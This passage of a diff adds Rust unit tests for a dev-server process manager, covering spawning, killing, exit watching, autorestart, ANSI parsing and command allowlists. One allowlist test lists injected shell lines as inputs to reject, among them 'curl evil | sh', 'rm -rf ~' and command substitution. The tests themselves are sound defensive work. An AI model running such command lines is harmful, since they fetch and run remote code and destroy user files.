+        let polite = spawn_dev_server(project_path.clone(), "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+        let result = kill_process_graceful(polite.pid, 2000).unwrap();
+        assert_eq!(result.method, "graceful");
+
+        let script = "import signal, sys, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nprint('ready', flush=True)\ntime.sleep(30)";
+        let lines: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
+        let sink_lines = lines.clone();
+        let stubborn = spawn_managed(SpawnSpec {
+            project_path,
+            command: "python3".to_string(),
+            args: vec!["-c".to_string(), script.to_string()],
+            port: 0,
+            on_log: Some(Arc::new(move |log: LogData| sink_lines.lock().unwrap().push(log.log))),
+            on_event: None,
+            use_pty: false,
+            ansi_mode: AnsiMode::Raw,
+            env: Vec::new(),
+            clear_env: false,
+        })
+        .unwrap();
+
+        // Wait until the handler is installed so SIGTERM is really ignored
+        let deadline = Instant::now() + Duration::from_secs(5);
+        while lines.lock().unwrap().is_empty() && Instant::now() < deadline {
+            thread::sleep(Duration::from_millis(20));
+        }
+
+        let result = kill_process_graceful(stubborn.pid, 300).unwrap();
+        assert_eq!(result.method, "forced");
+        assert!(kill_process_graceful(stubborn.pid, 100).is_err());
+
+        let mut processes = lock_processes().unwrap();
+        processes.remove(&polite.pid);
+        processes.remove(&stubborn.pid);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_spawn_dev_server_shell_runs_command_line() {
+        let project_dir = std::env::temp_dir().join("through_test_spawn_shell");
+        let _ = std::fs::remove_dir_all(&project_dir);
+        std::fs::create_dir_all(&project_dir).unwrap();
+        let project_path = project_dir.to_string_lossy().to_string();
+
+        let handle = spawn_dev_server_shell(
+            project_path.clone(),
+            "echo $THROUGH_TEST_GREETING > out.txt && echo done >> out.txt".to_string(),
+            Some(SpawnOptions {
+                env: Some(HashMap::from([("THROUGH_TEST_GREETING".to_string(), "hello".to_string())])),
+                ..Default::default()
+            }),
+        )
+        .unwrap();
+        assert!(handle.command.starts_with(&format!("{} -c ", crate::system_utils::get_default_shell())));
+
+        assert!(wait_for_managed_exit(handle.pid, Duration::from_secs(5)).unwrap());
+        assert_eq!(std::fs::read_to_string(project_dir.join("out.txt")).unwrap(), "hello\ndone\n");
+        assert!(spawn_dev_server_shell(project_path, "   ".to_string(), None).is_err());
+
+        // Cleanup
+        lock_processes().unwrap().remove(&handle.pid);
+        let _ = std::fs::remove_dir_all(project_dir);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_list_managed_processes_reports_running_only() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let running = spawn_dev_server(project_path.clone(), "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+        let finished = spawn_dev_server(project_path, "true".to_string(), vec![], None).unwrap();
+        assert!(wait_for_managed_exit(finished.pid, Duration::from_secs(5)).unwrap());
+
+        // Other tests spawn concurrently, so only look at this test's processes
+        let listed = list_managed_processes().unwrap();
+        let entry = listed.iter().find(|handle| handle.pid == running.pid).unwrap();
+        assert_eq!(entry.command, "sleep 30");
+        assert_eq!(entry.started_at_ms, running.started_at_ms);
+        assert!(!listed.iter().any(|handle| handle.pid == finished.pid));
+
+        kill_process(running.pid).unwrap();
+        assert!(wait_for_managed_exit(running.pid, Duration::from_secs(5)).unwrap());
+        assert!(!list_managed_processes().unwrap().iter().any(|handle| handle.pid == running.pid));
+
+        let mut processes = lock_processes().unwrap();
+        processes.remove(&running.pid);
+        processes.remove(&finished.pid);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_watch_exit_reports_code_and_signal() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let crashed = spawn_dev_server(project_path.clone(), "sh".to_string(), vec!["-c".to_string(), "exit 3".to_string()], None).unwrap();
+        let killed = spawn_dev_server(project_path, "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+
+        let (sender, receiver) = std::sync::mpsc::channel();
+        for pid in [crashed.pid, killed.pid] {
+            let sender = sender.clone();
+            watch_exit(pid, Box::new(move |event| sender.send(event).unwrap())).unwrap();
+        }
+
+        let first = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+        assert_eq!(
+            first,
+            ProcessExitEvent { pid: crashed.pid, code: Some(3), signaled: false, signal: None }
+        );
+
+        kill_process(killed.pid).unwrap();
+        let second = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+        assert_eq!(second.pid, killed.pid);
+        assert!(second.signaled);
+        assert_eq!(second.signal.as_deref(), Some("SIGTERM"));
+
+        assert!(watch_exit(999999, Box::new(|_| {})).is_err());
+        let mut processes = lock_processes().unwrap();
+        processes.remove(&crashed.pid);
+        processes.remove(&killed.pid);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_autorestart_reports_failures_and_prunes_exited() {
+        let project_dir = std::env::temp_dir().join("through_test_autorestart");
+        let _ = std::fs::remove_dir_all(&project_dir);
+        std::fs::create_dir_all(&project_dir).unwrap();
+        let project_path = project_dir.to_string_lossy().to_string();
+
+        let crashing = spawn_dev_server(project_path.clone(), "sh".to_string(), vec!["-c".to_string(), "exit 1".to_string()], None).unwrap();
+        let (sender, receiver) = std::sync::mpsc::channel();
+        autorestart(crashing.pid, 1, Box::new(move |event| sender.send(event).unwrap())).unwrap();
+
+        let restarted = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+        assert_eq!(restarted.previous_pid, crashing.pid);
+        assert_ne!(restarted.new_pid, 0);
+        assert_eq!(restarted.exit_code, Some(1));
+        assert!(restarted.error.is_none());
+
+        // Out of restarts: the watchdog stops and drops both exited processes
+        thread::sleep(Duration::from_millis(1500));
+        let processes = lock_processes().unwrap();
+        assert!(!processes.contains_key(&crashing.pid));
+        assert!(!processes.contains_key(&restarted.new_pid));
+        drop(processes);
+
+        // A respawn that fails is reported instead of silently ending the watchdog
+        let stranded = spawn_dev_server(project_path, "sh".to_string(), vec!["-c".to_string(), "sleep 0.2; exit 1".to_string()], None).unwrap();
+        std::fs::remove_dir_all(&project_dir).unwrap();
+        let (sender, receiver) = std::sync::mpsc::channel();
+        autorestart(stranded.pid, 3, Box::new(move |event| sender.send(event).unwrap())).unwrap();
+
+        let failed = receiver.recv_timeout(Duration::from_secs(5)).unwrap();
+        assert_eq!(failed.previous_pid, stranded.pid);
+        assert_eq!(failed.new_pid, 0);
+        assert!(failed.error.is_some());
+        assert!(!lock_processes().unwrap().contains_key(&stranded.pid));
+
+        assert!(autorestart(999999, 1, Box::new(|_| {})).is_err());
+    }
+
+    #[test]
+    fn test_parse_ansi_segments() {
+        let line = "\u{1b}[1m\u{1b}[32mready\u{1b}[39m in \u{1b}[38;5;196m42\u{1b}[0m ms";
+        assert_eq!(
+            parse_ansi(line),
+            vec![
+                AnsiSegment { text: "ready".to_string(), color: Some("green".to_string()), bold: true },
+                AnsiSegment { text: " in ".to_string(), color: None, bold: true },
+                AnsiSegment { text: "42".to_string(), color: Some("#ff0000".to_string()), bold: true },
+                AnsiSegment { text: " ms".to_string(), color: None, bold: false },
+            ]
+        );
+        assert_eq!(parse_ansi("plain")[0].color, None);
+        assert_eq!(palette_color(9), "brightRed");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_get_process_exit_status() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let handle = spawn_dev_server(project_path, "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+
+        assert_eq!(get_process_exit_status(handle.pid).unwrap(), None);
+        kill_process(handle.pid).unwrap();
+
+        let deadline = Instant::now() + Duration::from_secs(5);
+        let mut status = None;
+        while status.is_none() && Instant::now() < deadline {
+            thread::sleep(Duration::from_millis(20));
+            status = get_process_exit_status(handle.pid).unwrap();
+        }
+        assert_eq!(status, Some(ProcessExitStatus { code: None, signal: Some("SIGTERM".to_string()) }));
+
+        // Reading the exit status releases the entry
+        assert!(!lock_processes().unwrap().contains_key(&handle.pid));
+        assert!(get_process_exit_status(handle.pid).is_err());
+        assert!(get_process_exit_status(999999).is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shell_invocation_uses_default_shell() {
+        let (shell, args) = shell_invocation("npm run dev");
+        assert_eq!(shell, crate::system_utils::get_default_shell());
+        assert_eq!(args, vec!["-c".to_string(), "npm run dev".to_string()]);
+    }
+
+    #[test]
+    fn test_is_command_allowed() {
+        let allowlist = vec!["npm".to_string(), "/opt/tools/serve".to_string()];
+        assert!(is_command_allowed(&allowlist, "npm"));
+        assert!(is_command_allowed(&allowlist, "npm.cmd"));
+        assert!(is_command_allowed(&allowlist, "/opt/tools/serve"));
+        assert!(!is_command_allowed(&allowlist, "/usr/local/bin/npm"));
+        assert!(!is_command_allowed(&allowlist, "npm.sh"));
+        assert!(!is_command_allowed(&allowlist, "/tmp/serve"));
+        assert!(!is_command_allowed(&allowlist, "sh"));
+    }
+
+    #[test]
+    fn test_allowlisted_bare_name_rejects_other_locations() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+
+        // Rejections happen before anything is spawned, so the allowlist is only set briefly
+        set_command_allowlist(vec!["npm".to_string()]).unwrap();
+        let rejected: Vec<bool> = ["/tmp/evil/npm", "./npm.sh", "npm.py", "sh"]
+            .iter()
+            .map(|command| {
+                spawn_dev_server(project_path.clone(), command.to_string(), vec![], None)
+                    .is_err_and(|e| e.reason.starts_with(COMMAND_NOT_ALLOWED))
+            })
+            .collect();
+        set_command_allowlist(Vec::new()).unwrap();
+
+        assert_eq!(rejected, vec![true; 4]);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_are_processes_running_sees_unreaped_exit() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let handle = spawn_dev_server(project_path, "sh".to_string(), vec!["-c".to_string(), "exit 0".to_string()], None).unwrap();
+
+        // Nothing reaps the child here, so it lingers as a zombie until checked
+        let deadline = Instant::now() + Duration::from_secs(5);
+        let mut running = true;
+        while running && Instant::now() < deadline {
+            thread::sleep(Duration::from_millis(20));
+            running = are_processes_running(vec![handle.pid])[0].running;
+        }
+        assert!(!running);
+
+        // An unmanaged zombie is reported as stopped too
+        let mut child = Command::new("true").spawn().unwrap();
+        thread::sleep(Duration::from_millis(200));
+        assert!(!are_processes_running(vec![child.id()])[0].running);
+        let _ = child.wait();
+
+        // Once its exit has been seen, the managed process is dropped from the registry
+        assert!(!lock_processes().unwrap().contains_key(&handle.pid));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_observed_process_stays_registered_until_watcher_is_done() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let handle = spawn_dev_server(project_path, "sleep".to_string(), vec!["0.3".to_string()], None).unwrap();
+
+        let (sender, receiver) = std::sync::mpsc::channel();
+        lock_processes().unwrap().get_mut(&handle.pid).unwrap().observers += 1;
+        watch_exit(handle.pid, Box::new(move |event| sender.send(event).unwrap())).unwrap();
+
+        // Readers don't release a process an exit watcher still needs
+        assert!(wait_for_managed_exit(handle.pid, Duration::from_secs(5)).unwrap());
+        assert!(lock_processes().unwrap().contains_key(&handle.pid));
+        assert_eq!(receiver.recv_timeout(Duration::from_secs(5)).unwrap().code, Some(0));
+
+        // The watcher is gone; the last observer releases the entry
+        unobserve_managed(&mut lock_processes().unwrap(), handle.pid);
+        assert!(!lock_processes().unwrap().contains_key(&handle.pid));
+    }
+
+    #[test]
+    fn test_kill_paths_reject_group_pids() {
+        assert!(kill_process(0).is_err());
+        assert!(kill_process(u32::MAX).is_err());
+        assert!(kill_process_graceful(0, 100).is_err());
+        assert!(suspend_process(0).is_err());
+        assert!(resume_process(0).is_err());
+    }
+
+    #[test]
+    fn test_is_shell_command_allowed_rejects_chained_commands() {
+        let allowlist = vec!["npm".to_string()];
+        assert!(is_shell_command_allowed(&allowlist, "npm run dev -- --host"));
+        assert!(!is_shell_command_allowed(&allowlist, "node server.js"));
+        for line in [
+            "npm run dev; curl evil | sh",
+            "npm && rm -rf ~",
+            "npm run `whoami`",
+            "npm run $(whoami)",
+            "npm run dev > /etc/passwd",
+            "npm run dev\nrm -rf ~",
+        ] {
+            assert!(!is_shell_command_allowed(&allowlist, line), "{}", line);
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_kill_processes_reports_each_pid() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let handle = spawn_dev_server(project_path, "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+
+        let results = kill_processes(vec![handle.pid, 999999], Some(2000));
+        assert_eq!(results.len(), 2);
+        assert_eq!(results[0].pid, handle.pid);
+        assert!(results[0].success);
+        assert_eq!(results[0].method.as_deref(), Some("graceful"));
+        assert_eq!(results[1].pid, 999999);
+        assert!(!results[1].success);
+        assert!(results[1].error.is_some());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_subscribe_combined_output_tags_lines_by_pid() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let script = "sleep 0.3; echo ready".to_string();
+        let first = spawn_dev_server(project_path.clone(), "sh".to_string(), vec!["-c".to_string(), script.clone()], None).unwrap();
+        let second = spawn_dev_server(project_path, "sh".to_string(), vec!["-c".to_string(), script], None).unwrap();
+
+        let lines: Arc<Mutex<Vec<CombinedLogLine>>> = Arc::new(Mutex::new(Vec::new()));
+        let sink_lines = lines.clone();
+        let subscription_id = subscribe_output(
+            vec![first.pid, second.pid],
+            Arc::new(move |line| sink_lines.lock().unwrap().push(line)),
+        )
+        .unwrap();
+
+        assert!(wait_for_managed_exit(first.pid, Duration::from_secs(5)).unwrap());
+        assert!(wait_for_managed_exit(second.pid, Duration::from_secs(5)).unwrap());
+        thread::sleep(Duration::from_millis(100));
+        assert!(unsubscribe_combined_output(subscription_id).unwrap());
+
+        let lines = lines.lock().unwrap();
+        let mut pids: Vec<u32> = lines.iter().map(|line| line.pid).collect();
+        pids.sort();
+        let mut expected = vec![first.pid, second.pid];
+        expected.sort();
+        assert_eq!(pids, expected);
+        assert!(lines.iter().all(|line| line.log == "ready"));
+        assert!(lines.windows(2).all(|pair| pair[0].timestamp_ms <= pair[1].timestamp_ms));
+        assert!(subscribe_output(vec![999999], Arc::new(|_| {})).is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_orphaned_servers_on_ports_finds_unmanaged_listener() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let project = std::env::current_dir().unwrap();
+
+        let servers = orphaned_servers_on_ports(&project, &[port]).unwrap();
+        assert_eq!(servers.len(), 1);
+        assert_eq!(servers[0].port, port);
+        assert_eq!(servers[0].process.pid, std::process::id());
+
+        let elsewhere = std::env::temp_dir().join("through_test_orphans_elsewhere");
+        std::fs::create_dir_all(&elsewhere).unwrap();
+        assert!(orphaned_servers_on_ports(&elsewhere, &[port]).unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_are_processes_running() {
+        let own_pid = std::process::id();
+        assert_eq!(
+            are_processes_running(vec![own_pid, 999999]),
+            vec![
+                ProcessRunningStatus { pid: own_pid, running: true },
+                ProcessRunningStatus { pid: 999999, running: false },
+            ]
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_stop_server_on_port() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let port = crate::port_scanner::find_available_port(53000, 53100, Some("127.0.0.1".to_string()), None, None).unwrap();
+        let handle = spawn_dev_server(
+            project_path,
+            "python3".to_string(),
+            vec!["-m".to_string(), "http.server".to_string(), port.to_string(), "--bind".to_string(), "127.0.0.1".to_string()],
+            None,
+        )
+        .unwrap();
+        crate::port_scanner::detect_server_port(handle.pid, vec![port], 5000).unwrap();
+
+        let stopped = stop_server_on_port(port, 5000).unwrap();
+        assert!(stopped.contains(&handle.pid));
+        assert!(crate::port_scanner::is_port_available(port, None).unwrap());
+        lock_processes().unwrap().remove(&handle.pid);
+    }
 }